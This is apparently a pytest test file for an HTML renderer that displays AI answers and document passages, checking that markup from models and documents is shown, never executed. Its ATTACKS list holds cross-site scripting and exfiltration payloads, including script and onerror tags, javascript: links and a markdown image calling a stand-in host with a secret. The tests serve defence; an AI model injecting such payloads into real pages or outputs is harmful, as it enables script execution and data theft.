"""Text of models and documents is shown, never obeyed."""

from __future__ import annotations

import re

import pytest

from ui.markup import answer_html, passage_html, plain_html

ANCHORS = {1: "source-a-1"}
OUR_TAG = re.compile(
    r"</?(?:p|ul|ol|li|strong|em|code|pre|br|blockquote|table|thead|tbody|tr|th|td)(?: start=\"\d+\")?(?: style=\"text-align:\w+\")?"
    r"(?: class=\"ca-heading\")?>|<a class=\"ca-mark\" href=\"#source-a-1\">|</a>|<span class=\"ca-doubt\">|</span>"
    r"|<span class=\"ca-flag\" role=\"note\" tabindex=\"0\" aria-label=\"[^\"<>]*\" data-note=\"[^\"<>]*\">"
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.invalid/?q=secret)",
    "[here](http://evil.invalid)",
    "[here][ref]\n\n[ref]: http://evil.invalid",
    "![x][ref]\n\n[ref]: http://evil.invalid/a.png",
    "<http://evil.invalid>",
    "http://evil.invalid/ and www.evil.invalid",
    "[1](javascript:alert(1))",
    "[1]: http://evil.invalid",
    '`<b>`\n\n```html"><script>[1]\n<script>[1]</script>\n```',
    '| <b>a</b> | [1] |\n|:--|--:|\n| <img> | " onmouseover="x |',
    "# <iframe src=//evil.invalid>",
    "&lt;script&gt; &#60;b&#62;",
    "\ue000<b>\ue001",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_holds_no_tag_but_ours_and_calls_no_address(attack: str) -> None:
    rendered = answer_html(attack, anchors=ANCHORS, doubts=[(0, 3, '"><script>')])
    rest = OUR_TAG.sub("", rendered)
    assert "<" not in rest
    assert ">" not in rest
    assert not re.search(r"<[^>]*(?:src|onerror|onmouseover|javascript|evil)", rendered)


def test_marks_with_a_citation_become_links_and_others_stay_text() -> None:
    rendered = answer_html("はい [1]。いいえ [2]。", anchors=ANCHORS)
    assert rendered == '<p>はい <a class="ca-mark" href="#source-a-1">[1]</a>。いいえ [2]。</p>\n'


def test_simple_markdown_is_laid_out() -> None:
    rendered = answer_html("# 題\n\n**太字**\n次の行\n\n1. 一\n2. 二\n\n- `x`", anchors={})
    assert '<p class="ca-heading">題</p>' in rendered
    assert "<strong>太字</strong><br>\n次の行" in rendered
    assert "<ol>" in rendered
    assert "<code>x</code>" in rendered


def test_a_path_of_a_windows_share_keeps_its_backslashes() -> None:
    assert "\\\\server\\forms\\*.docx" in answer_html(r"\\server\forms\*.docx", anchors={})


def test_doubted_stretches_are_underlined_and_overlaps_are_one() -> None:
    rendered = answer_html("上限は15,000円です。", anchors={}, doubts=[(3, 9, "未確認"), (5, 10, "別")])
    assert rendered.count('<span class="ca-doubt">') == rendered.count('class="ca-flag"') == 2
    assert rendered.count("<span") == rendered.count("</span>") == 4
    assert re.sub(r"<[^>]+>", "", rendered).strip() == "上限は15,000円です。"


def test_a_doubt_across_lines_is_closed_on_its_first_line() -> None:
    rendered = answer_html("一\n\n二", anchors={}, doubts=[(0, 4, "x")])
    assert rendered.count("<span") == rendered.count("</span>") == 2


def test_invisible_characters_are_not_shown() -> None:
    hidden = "a\u200bb\u202ec\U000e0041d\x00e\ufeff"
    assert plain_html(hidden) == "abcde"
    assert answer_html(hidden, anchors={}) == "<p>abcde</p>\n"


def test_the_quote_is_highlighted_at_its_place_however_the_text_looks() -> None:
    text = "<b>前\u200b</b>引用 & 後"
    start = text.index("引用")
    shown = passage_html(text, start=start, end=start + 2, mark_id='x"y')
    assert shown == '&lt;b&gt;前&lt;/b&gt;<mark id="x&quot;y">引用</mark> &amp; 後'


@pytest.mark.parametrize(("start", "end"), [(0, 0), (-1, 2), (2, 1), (0, 99)])
def test_a_place_outside_the_passage_highlights_nothing(start: int, end: int) -> None:
    assert "<mark" not in passage_html("本文です", start=start, end=end)


def test_a_doubted_heading_entry_or_row_stays_one() -> None:
    lines = ["## 申請期限", "1. 申請書を出す", "- 承認を待つ", "| 部長 | 3,000円 |"]
    text = f"{lines[0]}\n\n{lines[1]}\n\n{lines[2]}\n\n| 役職 | 日当 |\n|---|---|\n{lines[3]}"
    doubts = [(text.index(line), text.index(line) + len(line), "未確認") for line in lines]
    rendered = answer_html(text, anchors={}, doubts=doubts)
    for opened in ('ca-heading"><span class="ca-doubt">申', '<li><span class="ca-doubt">申', '<li><span class="ca-doubt">承',
                   '<td><span class="ca-doubt">部'):  # fmt: skip
        assert opened in rendered
